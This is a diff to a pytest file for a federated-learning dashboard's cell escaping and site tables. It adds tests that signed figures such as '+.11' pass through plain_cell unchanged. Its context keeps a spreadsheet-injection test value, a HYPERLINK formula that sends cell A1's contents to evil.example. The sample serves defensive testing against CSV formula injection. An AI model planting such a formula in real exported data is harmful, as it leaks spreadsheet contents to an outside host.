@@ -10,7 +10,10 @@ import pytest
 from flfed.records.dashboard.cells import FORMULAS, plain_cell
 from flfed.records.dashboard.panels import JOINER, escape, holdout_in_words, with_code
 from flfed.records.dashboard.showing import csv_text
+from flfed.records.dashboard.site_panels import _words
 from flfed.records.entries import EventEntry, EventRow
+from flfed.records.reading import RunReader
+from flfed.records.reports import report
 from tests.browser import Window
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
@@ -58,10 +61,30 @@ def test_a_formula_is_text_to_a_spreadsheet(value):
 
 
 @pytest.mark.parametrize(
-    "value", ["+.11", "+.11 (+.02 to +.20)", "-0.3", -0.3, None, 7, "a=b", "\u2212.02", "a; b; -0.3"]
+    "value",
+    [
+        "+.11",
+        "+.11 (+.02\xa0to\xa0+.20),\xa0shared",
+        "+.11 (n/a)",
+        "-0.3",
+        -0.3,
+        None,
+        7,
+        "a=b",
+        "\u2212.02",
+        "a; b; -0.3",
+    ],
 )
 def test_figures_and_names_are_given_away_as_they_are(value):
     assert plain_cell(value) == value
+
+
+def test_a_gain_in_the_table_of_sites_has_no_quote_before_it(store, heart, url):
+    with RunReader.open(url) as reader:
+        found = report(reader, heart)
+    cells = [_words(site, found["sites"][site], "roc_auc_score")["Gain, + is better (95 %)"] for site in found["sites"]]
+    assert sum(cell.startswith("+") for cell in cells) >= 2
+    assert [plain_cell(cell) for cell in cells] == cells
 
 
 @pytest.mark.parametrize("sign", [",", ";", "\t"])
@@ -153,8 +176,10 @@ def test_that_a_run_is_not_there_is_told_with_its_command_as_code(store, write, 
 
     monkeypatch.setenv("FLFED_STORE", url)
     write(store, store.begin_series(study="s", study_sha256="", study_text=""), rounds=1)
-    (said,) = [error.value for error in overview("nothing_like-it").error]
+    page = overview("nothing_like-it")
+    (said,) = [error.value for error in page.error]
     assert "`flfed run list` shows" in said and "'nothing\\_like-it'" in said
+    assert [link.proto.label for link in page.get("page_link")] == ["All runs"]  # for who has no terminal
 
 
 @pytest.mark.slow
